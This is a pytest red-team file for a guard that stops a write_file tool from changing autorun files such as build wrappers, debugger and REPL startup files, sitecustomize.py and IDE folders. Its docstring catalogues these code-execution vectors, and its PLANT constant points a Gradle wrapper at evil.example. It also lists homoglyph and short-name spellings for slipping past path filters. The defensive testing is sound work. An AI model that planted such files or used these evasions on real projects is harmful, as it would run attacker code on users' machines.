"""Red team on the autorun guard: build wrappers, debuggers' and REPLs' startup files, IDE folders.

Before this file, write_file changed each of these, and the next ordinary command ran what it planted:

* ``./gradlew`` downloads and runs the distribution ``gradle/wrapper/gradle-wrapper.properties``'
  ``distributionUrl`` names (and runs ``gradle-wrapper.jar``); ``./mvnw`` the one
  ``.mvn/wrapper/maven-wrapper.properties`` names; ``.mvn/jvm.config`` adds ``-javaagent``,
  ``.mvn/extensions.xml`` loads build extensions; the wrapper scripts themselves are what the user
  types; Gradle's ``~/.gradle/init.d/`` scripts run before every build of every project.
* ``.bazelrc`` (``--run_under``, ``try-import``) is read by every bazel command; ``.bazelversion``
  may name a fork (``evil/7.0.0``) that bazelisk downloads and runs, ``.bazeliskrc`` the URL it
  downloads from; MSBuild imports ``Directory.Build.props`` / ``.targets`` (an ``Exec`` task) into
  every project below it and reads ``Directory.Build.rsp`` (``-logger:`` loads an assembly).
* Bun's ``bunfig.toml`` ``preload`` runs before every ``bun run``/``bun test``; ``.npmrc``'s
  ``script-shell`` and ``node-options=--require`` run on every npm script.
* gdb runs ``.gdbinit`` (and ``.config/gdb/gdbinit``) on every start, lldb ``.lldbinit``;
  ``PYTHONSTARTUP``'s ``.pythonrc.py`` and IPython's profile startup scripts run in every REPL; pdb
  reads ``.pdbrc`` from the current folder (``pytest --pdb``, ``breakpoint()``), irb and pry theirs,
  R its ``.Rprofile``, psql and sqlite3 theirs (``\\!``, ``.shell``), vim, Emacs and tmux their init files.
* Python imports the first ``sitecustomize.py`` on its path at startup: a project's ``src/`` is on
  that path in every Python of an environment where it is installed editable (shown below with a
  real environment and its Python).
* JetBrains' ``.idea/``: File Watchers (``watcherTasks.xml``) run a program when a file is saved,
  startup tasks when the project opens.

Decided writable (a person runs them by choice, or no tool runs code from them): the build files
themselves (``build.gradle``, ``pom.xml``, ``BUILD.bazel``, ``*.csproj``, ``pyproject.toml``: its build
backend runs only on a build or install the user starts, as ``setup.py`` does), ``gradle.properties``,
``gradle/libs.versions.toml``, ``.editorconfig``, ``.nvmrc`` / ``.python-version`` (a version, not a
program), and ``.pth`` files outside a Python environment (Python reads them only in site folders;
``model.pth`` is PyTorch's weights).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import refused_autorun_write, rooted_reach

PLANT = "distributionUrl=https\\://evil.example/gradle-8.5-bin.zip\n"

_PLACES = {
    "gradlew": "build-tool", "gradlew.bat": "build-tool", "mvnw": "build-tool", "mvnw.cmd": "build-tool",
    "services/api/gradlew": "build-tool", "gradle/wrapper/gradle-wrapper.properties": "build-tool",
    "gradle/wrapper/gradle-wrapper.jar": "build-tool", "app/gradle/wrapper/gradle-wrapper.properties": "build-tool",
    ".mvn/wrapper/maven-wrapper.properties": "build-tool", ".mvn/wrapper/maven-wrapper.jar": "build-tool",
    ".mvn/jvm.config": "build-tool", ".mvn/extensions.xml": "build-tool", ".mvn/maven.config": "build-tool",
    "backend/.mvn/jvm.config": "build-tool", ".gradle/init.d/repos.gradle": "build-tool",
    ".gradle/init.gradle": "build-tool", ".gradle/init.gradle.kts": "build-tool",
    ".bazelrc": "build-tool", "user.bazelrc": "build-tool", ".bazelversion": "build-tool",
    ".bazeliskrc": "build-tool", "Directory.Build.props": "build-tool", "Directory.Build.targets": "build-tool",
    "src/Directory.Build.props": "build-tool", "Directory.Build.rsp": "build-tool",
    "Directory.Solution.targets": "build-tool",
    "bunfig.toml": "package-manager", ".bunfig.toml": "package-manager", "web/bunfig.toml": "package-manager",
    ".gdbinit": "tool-startup", ".gdbearlyinit": "tool-startup", ".config/gdb/gdbinit": "tool-startup",
    ".lldbinit": "tool-startup", ".lldbinit-lldb": "tool-startup", ".lldbinit-Xcode": "tool-startup",
    ".pythonrc.py": "tool-startup", ".pythonrc": "tool-startup",
    ".ipython/profile_default/startup/00-x.py": "tool-startup",
    ".ipython/profile_default/ipython_config.py": "tool-startup",
    ".pdbrc": "tool-startup", "tests/.pdbrc": "tool-startup", ".irbrc": "tool-startup", ".pryrc": "tool-startup",
    ".psqlrc": "tool-startup", ".sqliterc": "tool-startup", ".Rprofile": "tool-startup",
    "analysis/.Rprofile": "tool-startup", ".vimrc": "tool-startup", ".exrc": "tool-startup",
    ".nvim.lua": "tool-startup", ".config/nvim/init.lua": "tool-startup", ".vim/plugin/x.vim": "tool-startup",
    ".tmux.conf": "tool-startup", ".emacs": "tool-startup", ".emacs.d/init.el": "tool-startup",
    ".config/emacs/init.el": "tool-startup",
    "sitecustomize.py": "python-env", "src/sitecustomize.py": "python-env", "usercustomize.py": "python-env",
    ".idea/workspace.xml": ".idea", ".idea/watcherTasks.xml": ".idea", ".idea/runConfigurations/x.xml": ".idea",
    "app/.idea/misc.xml": ".idea",
}
_SPELLINGS = {
    "GRADLEW": "build-tool", "gradlew.": "build-tool", "gradlew ": "build-tool", "Gradlew.Bat": "build-tool",
    "MVNW.CMD": "build-tool", "\uff47radlew": "build-tool", "gr\u0430dlew": "build-tool", "grad\u200blew": "build-tool",
    "Gradle/Wrapper/gradle-wrapper.properties": "build-tool", "gradle./wrapper/x.properties": "build-tool",
    "gradle/wrapper./gradle-wrapper.properties": "build-tool", "\uff47radle/wrapper/g.properties": "build-tool",
    ".MVN/jvm.config": "build-tool", ".mvn./extensions.xml": "build-tool", "MVN~1/jvm.config": "build-tool",
    ".m\u0475n/jvm.config": "build-tool", ".BAZELRC": "build-tool", ".bazelrc.": "build-tool",
    "DIRECTORY.BUILD.PROPS": "build-tool", "directory.build.targets ": "build-tool",
    "Directory.Build.pr\u043eps": "build-tool", "BUNFIG.TOML": "package-manager", "bunfig.toml.": "package-manager",
    ".GDBINIT": "tool-startup", ".gdbinit ": "tool-startup", ".gdb\u0456nit": "tool-startup",
    ".LLDBINIT": "tool-startup", ".Config/GDB/gdbinit": "tool-startup",
    ".IPython/profile_x/startup/a.py": "tool-startup",
    ".PDBRC": "tool-startup", ".pdbrc.": "tool-startup", ".rprofile": "tool-startup", ".RPROFILE ": "tool-startup",
    ".\u0456rbrc": "tool-startup", ".Emacs.D/init.el": "tool-startup",
    "SiteCustomize.py": "python-env", "sitecustomize.py.": "python-env", "s\u0456tecustomize.py": "python-env",
    "sitecustom\u200bize.py": "python-env", ".IDEA/workspace.xml": ".idea", ".idea./workspace.xml": ".idea",
    "IDEA~1/workspace.xml": ".idea", ".\uff49dea/workspace.xml": ".idea",
}


async def _refused(reach: Any, root: Path, path: str, place: str, mode: str) -> None:
    await refused_autorun_write(reach, root, path, place, mode, PLANT)


@pytest.mark.parametrize(("path", "place"), sorted({**_PLACES, **_SPELLINGS}.items()))
async def test_not_created(tmp_path: Path, path: str, place: str) -> None:
    reach, root = rooted_reach(tmp_path)
    for mode in ("create", "overwrite", "append"):
        await _refused(reach, root, path, place, mode)
    await _refused(reach, root, f"{root}/{path}", place, "create")


@pytest.mark.parametrize(("path", "place"), sorted(_PLACES.items()))
async def test_existing_ones_are_read_but_not_changed(tmp_path: Path, path: str, place: str) -> None:
    reach, root = rooted_reach(tmp_path)
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_text("# the user's own\n", encoding="utf-8")
    for mode in ("overwrite", "append", "create"):
        await _refused(reach, root, path, place, mode)
    r = await reach.invoke("read_file", {"path": path})
    assert r.ok and r.content["content"] == "# the user's own\n"


@pytest.mark.parametrize(("link", "target", "path", "place"), [
    ("wrapper", "gradle/wrapper", "wrapper/gradle-wrapper.properties", "build-tool"),
    ("mvn", ".mvn", "mvn/jvm.config", "build-tool"),
    ("ide", ".idea", "ide/watcherTasks.xml", ".idea"),
    ("build.sh", "gradlew", "build.sh", "build-tool"),
    ("init.txt", ".gdbinit", "init.txt", "tool-startup"),
])
async def test_through_a_symlink(tmp_path: Path, link: str, target: str, path: str, place: str) -> None:
    reach, root = rooted_reach(tmp_path)
    real = root / target
    if target in ("gradlew", ".gdbinit"):
        real.write_text("# the user's own\n", encoding="utf-8")
        modes: tuple[str, ...] = ("overwrite", "append")
    else:
        real.mkdir(parents=True)
        modes = ("create", "overwrite", "append")
    (root / link).symlink_to(real)
    for mode in modes:
        await _refused(reach, root, path, place, mode)


async def test_allow_autorun_writes_opens_them(tmp_path: Path) -> None:
    reach, root = rooted_reach(tmp_path, allow_autorun_writes=["build-tool", "package-manager", "tool-startup",
                                                               "python-env", ".idea"])
    for path in _PLACES:
        r = await reach.invoke("write_file", {"path": path, "content": "ok\n"})
        assert r.ok, (path, r.error)
    reach, root = rooted_reach(tmp_path / "one", allow_autorun_writes=["build-tool"])
    r = await reach.invoke("write_file", {"path": ".gdbinit", "content": "ok\n"})
    assert not r.ok and '"tool-startup"' in r.error.message


@pytest.mark.parametrize("path", [
    "build.gradle", "build.gradle.kts", "settings.gradle", "gradle.properties", "gradle/libs.versions.toml",
    "gradle/notes.md", "gradlew.md", "docs/gradlew.txt", "pom.xml", "mvn/notes.md", ".mvn.md", "BUILD.bazel",
    "WORKSPACE", "MODULE.bazel", "bazelrc.md", "app.csproj", "Directory.Packages.props", "Directory.Build.md",
    "pyproject.toml", "setup.cfg", ".editorconfig", ".nvmrc", ".python-version", "bunfig.md", "gdbinit.md",
    "docs/.gdbinit.md", "lldbinit.txt", "pythonrc.md", "ipython/notes.md", "idea/notes.md", ".idea.md",
    "model.pth", "docs/site_customize.py", "mysitecustomize.py", "sitecustomize_test.md", ".gradle.md",
    ".gradle/notes.md", "src/main/java/App.java", "pdbrc.md", "docs/.pdbrc.md", "R/analysis.R", "irbrc.example",
    "vim/notes.md", "emacs.md", "tmux.md", ".tmux.conf.md",
])
async def test_honest_neighbours_are_written(tmp_path: Path, path: str) -> None:
    reach, root = rooted_reach(tmp_path)
    for mode, text in (("create", "one\n"), ("append", "two\n"), ("overwrite", "three\n")):
        r = await reach.invoke("write_file", {"path": path, "content": text, "mode": mode})
        assert r.ok, (path, mode, r.error)
    assert (root / path).read_text() == "three\n"


async def test_a_sitecustomize_in_an_editable_projects_src_runs_in_every_python(tmp_path: Path) -> None:
    """Why ``sitecustomize.py`` is guarded anywhere: with the project's ``src/`` on the path of a real
    environment (what an editable install's ``.pth`` does), a plain ``python -c pass`` runs it. The
    planted file is refused, so the environment's Python runs nothing of the attacker's."""
    reach, root = rooted_reach(tmp_path)
    (root / "src").mkdir()
    python = _editable_env(tmp_path / "env", root / "src")
    mark = tmp_path / "ran"
    r = await reach.invoke("write_file", {"path": "src/sitecustomize.py",
                                          "content": f"open({str(mark)!r}, 'w').write('x')\n"})
    assert not r.ok and '"python-env"' in r.error.message
    _run(python, tmp_path)
    assert not mark.exists()
    (root / "src" / "sitecustomize.py").write_text(f"open({str(mark)!r}, 'w').write('x')\n", encoding="utf-8")
    _run(python, tmp_path)
    assert mark.exists()  # the same file, put there by hand, does run: the guard is what stood in the way


def _editable_env(env: Path, src: Path) -> Path:
    """A real environment whose site-packages puts ``src`` on the path, as an editable install does."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True, capture_output=True)
    python = env / ("Scripts/python.exe" if os.name == "nt" else "bin/python")
    site = subprocess.run([str(python), "-c", "import site; print(site.getsitepackages()[0])"], check=True,
                          capture_output=True, text=True).stdout.strip()
    Path(site, "__editable__.project-0.1.pth").write_text(f"{src}\n", encoding="utf-8")
    return python


def _run(python: Path, cwd: Path) -> None:
    subprocess.run([str(python), "-c", "pass"], check=True, capture_output=True, cwd=cwd)
